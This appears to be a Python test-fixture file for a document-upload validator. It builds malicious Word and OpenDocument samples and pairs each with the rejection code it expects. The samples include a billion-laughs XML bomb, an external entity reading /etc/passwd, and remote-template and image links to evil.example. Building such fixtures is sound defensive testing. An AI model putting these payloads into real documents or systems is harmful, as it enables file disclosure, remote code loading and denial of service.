"""Office documents with macros, objects, addresses and declarations that have no place in them."""

from states.files.refusal import Code

from . import good
from .case import Hostile

COMPOUND_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MACRO_SHEETS = "application/vnd.ms-excel.macrosheet+xml"
WORD_WITH_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
PRESENTATION = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
TEMPLATE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
DECLARATION = '<?xml version="1.0"?>'
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
OUTSIDE_ENTITY = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def docx_with(parts: good.Parts, main_type: str = good.MAIN_PART) -> bytes:
    """A Word document with more parts, or with others in their place."""
    return good.packed(good.docx_parts(main_type=main_type) | parts)


def odt_with(parts: good.Parts | None = None, body: str = "") -> bytes:
    """An OpenDocument text with more parts, or with more in its text."""
    return good.packed(good.odt_parts(body=body) | (parts or {}))


def docx_linking(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word document that leads to something."""
    return docx_with({"word/_rels/settings.xml.rels": good.relationships((kind, target, mode))})


def docx_declaring(part: str, content_type: str, content: bytes = b"x") -> bytes:
    """A Word document with a part of a content type."""
    types = str(good.docx_parts()["[Content_Types].xml"]).replace(
        "</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    )
    return docx_with({"[Content_Types].xml": types, part: content})


def odt_that_loads(element: str, href: str) -> bytes:
    return odt_with(body=f'<draw:{element} xlink:href="{href}"/>')


def old_word() -> bytes:
    return COMPOUND_FILE + "WordDocument".encode("utf-16-le") + bytes(512)


def word_with_password() -> bytes:
    return COMPOUND_FILE + "EncryptedPackage".encode("utf-16-le") + bytes(512)


def utf16(markup: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-16"?>{markup}'.encode("utf-16")


OFFICE = [
    Hostile("word with password", "report.docx", word_with_password, Code.PROTECTED),
    Hostile(
        "macros under a plain type", "report.docx",
        lambda: docx_with({"word/vbaProject.bin": COMPOUND_FILE}), Code.MACROS,
    ),
    Hostile(
        "macros under another name", "report.docx",
        lambda: docx_declaring("word/x.bin", "application/vnd.ms-office.vbaProject"), Code.MACROS,
    ),
    Hostile(
        "macro type alone", "report.docx", lambda: docx_with({}, WORD_WITH_MACROS), Code.MACROS
    ),
    Hostile(
        "macro sheet", "report.docx",
        lambda: docx_declaring("xl/sheet1.xml", MACRO_SHEETS, b"<x/>"), Code.MACROS,
    ),
    Hostile(
        "basic", "report.odt",
        lambda: odt_with({"Basic/Standard/Module1.xml": "<x/>"}), Code.MACROS,
    ),
    Hostile(
        "python script", "report.odt",
        lambda: odt_with({"Scripts/python/evil.py": "import os"}), Code.MACROS,
    ),
    Hostile(
        "call of a script", "report.odt",
        lambda: odt_with(body='<script:event-listener script:event-name="dom:load"/>'),
        Code.MACROS,
    ),
    Hostile(
        "ole object", "report.docx",
        lambda: docx_with({"word/embeddings/oleObject1.bin": COMPOUND_FILE}), Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "ole object in opendocument", "report.odt",
        lambda: odt_with({"Object 1": COMPOUND_FILE}), Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "control", "report.docx",
        lambda: docx_declaring("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml",
                               b"<x/>"), Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "web page taken in", "report.docx",
        lambda: docx_linking("aFChunk", "/word/page.mht", ""), Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "program inside", "report.docx",
        lambda: docx_with({"word/media/image1.png": b"MZ" + bytes(99)}), Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "zip inside", "report.docx",
        lambda: docx_with({"word/media/image1.png": good.packed({"a": "b"})}),
        Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "zip as workbook", "report.docx",
        lambda: docx_with({"word/embeddings/book.xlsx": good.packed({"a": "b"})}),
        Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "document in document in document", "report.docx",
        lambda: docx_with({"word/embeddings/a.docx": good.docx_with_chart()}),
        Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "macros in an embedded workbook", "report.docx",
        lambda: docx_with(
            {"word/embeddings/a.docx": docx_with({"word/vbaProject.bin": COMPOUND_FILE})}
        ),
        Code.MACROS,
    ),
    Hostile(
        "document in opendocument", "report.odt",
        lambda: odt_with({"embeddings/a.docx": good.docx()}), Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "template on the web", "report.docx",
        lambda: docx_linking("attachedTemplate", "http://evil.example/a.dotm"),
        Code.OUTSIDE_CONTENT,
    ),
    Hostile(
        "template on a server", "report.docx",
        lambda: docx_linking("attachedTemplate", "file:///\\\\evil.example\\a.dotm"),
        Code.OUTSIDE_CONTENT,
    ),
    Hostile(
        "picture on the web", "report.docx",
        lambda: docx_linking("image", "https://evil.example/a.png"), Code.OUTSIDE_CONTENT,
    ),
    Hostile(
        "object on the web", "report.docx",
        lambda: docx_linking("oleObject", "mhtml:http://evil.example/a.html!x"),
        Code.EMBEDDED_OBJECT,
    ),
    Hostile(
        "picture on the web in opendocument", "report.odt",
        lambda: odt_that_loads("image", "http://evil.example/a.png"), Code.OUTSIDE_CONTENT,
    ),
    Hostile(
        "frame on a server in opendocument", "report.odt",
        lambda: odt_that_loads("floating-frame", "//evil.example/a"), Code.OUTSIDE_CONTENT,
    ),
    Hostile(
        "billion laughs", "report.docx",
        lambda: docx_with({"word/comments.xml": f"{DECLARATION}{LAUGHS}<r>&c;</r>"}),
        Code.DECLARES_ENTITIES,
    ),
    Hostile(
        "entity from outside", "report.docx",
        lambda: docx_with({"word/comments.xml": f"{DECLARATION}{OUTSIDE_ENTITY}<r>&x;</r>"}),
        Code.DECLARES_ENTITIES,
    ),
    Hostile(
        "entities in utf-16", "report.docx",
        lambda: docx_with({"word/comments.xml": utf16(f"{LAUGHS}<r>&c;</r>")}),
        Code.DECLARES_ENTITIES,
    ),
    Hostile(
        "entities under another name", "report.docx",
        lambda: docx_with({"word/media/image1.svg": f"{DECLARATION}{LAUGHS}<r>&c;</r>"}),
        Code.DECLARES_ENTITIES,
    ),
    Hostile(
        "entities in content types", "report.docx",
        lambda: docx_with({"[Content_Types].xml": f"{DECLARATION}{LAUGHS}<r>&c;</r>"}),
        Code.DECLARES_ENTITIES,
    ),
    Hostile(
        "entities in opendocument", "report.odt",
        lambda: odt_with({"styles.xml": f"{DECLARATION}{OUTSIDE_ENTITY}<r>&x;</r>"}),
        Code.DECLARES_ENTITIES,
    ),
    Hostile(
        "broken markup", "report.docx",
        lambda: docx_with({"word/document.xml": "<w:document"}), Code.DAMAGED,
    ),
    Hostile(
        "unknown encoding", "report.docx",
        lambda: docx_with({"word/document.xml": '<?xml version="1.0" encoding="nonsense"?><r/>'}),
        Code.DAMAGED,
    ),
    Hostile(
        "encoding of several bytes", "report.docx",
        lambda: docx_with({"word/document.xml": '<?xml version="1.0" encoding="gb2312"?><r/>'}),
        Code.DAMAGED,
    ),
    Hostile(
        "no main part", "report.docx",
        lambda: docx_with({"_rels/.rels": good.relationships()}), Code.DAMAGED,
    ),
    Hostile(
        "missing main part", "report.docx",
        lambda: docx_with({"_rels/.rels": good.relationships(("officeDocument", "a.xml", ""))}),
        Code.DAMAGED,
    ),
    Hostile(
        "no manifest", "report.odt",
        lambda: good.packed({"mimetype": good.ContentType.ODT, "content.xml": "<x/>"}),
        Code.DAMAGED,
    ),
    Hostile(
        "encrypted opendocument", "report.odt",
        lambda: odt_with(
            {"META-INF/manifest.xml": good.manifest("<manifest:encryption-data/>"),
             "content.xml": b"\x93\x02noise"}
        ),
        Code.PROTECTED,
    ),
]  # fmt: skip
